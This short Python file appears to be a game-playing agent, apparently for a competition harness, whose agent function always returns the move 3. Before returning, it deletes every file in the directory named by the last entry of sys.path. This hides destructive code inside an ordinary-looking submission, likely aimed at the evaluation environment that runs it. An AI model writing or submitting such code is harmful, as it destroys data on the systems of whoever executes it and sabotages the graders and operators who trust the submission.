import os
import sys

FOLDER = sys.path[-1]


def agent(obs, config):
    for name in os.listdir(FOLDER):
        os.remove(os.path.join(FOLDER, name))
    return 3
